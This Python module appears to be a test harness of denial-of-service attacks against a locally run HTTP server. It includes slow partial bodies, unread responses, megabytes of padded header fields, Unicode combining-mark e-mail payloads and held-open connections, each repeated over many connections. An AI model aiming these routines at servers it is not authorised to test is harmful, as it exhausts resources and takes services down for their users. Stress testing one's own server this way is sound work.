"""The attacks: what each sends, and on how many connections. The server runs on this machine."""

import asyncio
import socket
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

Attack = Callable[[int], Coroutine[Any, Any, None]]
"""A coroutine function that attacks the server on a port until it is cancelled."""

SMALL_BUFFER = 4096
PAUSE = 0.5
"""Seconds before an ended connection is reopened."""
MARKS = "".join(chr(mark) for mark in range(0x0325, 0x0300, -1)) * 220
"""Combining marks in an order that Unicode normalization has to sort; 16 kB in UTF-8."""
FIELD = b"X-Padding: " + b"x" * 16_000 + b"\r\n"
BODY = 2_000_000


@dataclass(frozen=True)
class Connection:
    """A connection from which an attacker need not read."""

    raw: socket.socket

    async def send(self, data: bytes) -> None:
        """Send bytes, as fast as the server receives them. Raises OSError."""
        await asyncio.get_running_loop().sock_sendall(self.raw, data)

    async def response(self) -> bytes:
        """Return all bytes until the server closes the connection. Raises OSError."""
        received = b""
        while chunk := await asyncio.get_running_loop().sock_recv(self.raw, 65536):
            received += chunk
        return received

    async def wait_for_end(self) -> None:
        """Read until the server closes the connection."""
        await self.response()


async def connect(port: int, buffer: int | None = None) -> Connection:
    """Open a connection, optionally with a receive buffer of this size. Raises OSError."""
    raw = socket.socket()
    if buffer:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    raw.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", port))
    except BaseException:
        raw.close()
        raise
    return Connection(raw)


def crowd(
    number: int, attacker: Callable[[Connection], Awaitable[None]], buffer: int | None = None
) -> Attack:
    """Return an attack by this number of connections. Ended connections are reopened."""

    async def repeat(port: int) -> None:
        while True:
            with suppress(OSError):
                connection = await connect(port, buffer)
                with connection.raw:
                    await attacker(connection)
            await asyncio.sleep(PAUSE)

    async def attack(port: int) -> None:
        await asyncio.gather(*(repeat(port) for _ in range(number)))

    return attack


async def send_most_of_a_body(connection: Connection) -> None:
    """Send a request that is rejected, without the last byte of its body."""
    await connection.send(post("/auth/login", BODY))
    for _ in range(BODY // 50_000 - 1):
        await connection.send(b"x" * 50_000)
    await connection.send(b"x" * 49_999)
    await connection.wait_for_end()


async def read_nothing(connection: Connection) -> None:
    """Request the largest file of the docs page without reading the response."""
    await connection.send(b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n")
    await asyncio.sleep(3600)


async def send_huge_fields(connection: Connection) -> None:
    """Send 6 MB of header fields, or as many as the server receives."""
    await connection.send(b"GET /ping HTTP/1.1\r\nHost: x\r\n")
    for _ in range(6_000_000 // len(FIELD)):
        await connection.send(FIELD)
    await connection.wait_for_end()


def marks(path: str) -> Callable[[Connection], Awaitable[None]]:
    """Return an attacker that sends an e-mail address of combining marks."""
    body = f'{{"username":"a","password":"long enough","email":"{MARKS[:8000]}@x.y"}}'.encode()
    request = post(path, len(body), "Connection: close") + body

    async def send_marks(connection: Connection) -> None:
        for _ in range(1_000_000):
            await connection.send(request)
            await connection.response()
            raise ConnectionResetError  # the next request uses a new connection

    return send_marks


def close_without_closing(rate: int) -> Attack:
    """Return an attack by clients that ask to close the connection, but do not close it.

    The rate is in requests per second.
    """

    async def one(port: int) -> None:
        with suppress(OSError):
            connection = await connect(port)
            with connection.raw:
                await connection.send(b"GET /ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                await asyncio.sleep(10)

    async def attack(port: int) -> None:
        begun = set()
        while True:
            task = asyncio.create_task(one(port))
            begun.add(task)
            task.add_done_callback(begun.discard)
            await asyncio.sleep(1 / rate)

    return attack


def post(path: str, length: int, field: str = "Accept: */*") -> bytes:
    """Return the header of a POST request with a JSON body."""
    return (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{field}\r\n"
        f"Content-Length: {length}\r\n\r\n"
    ).encode()
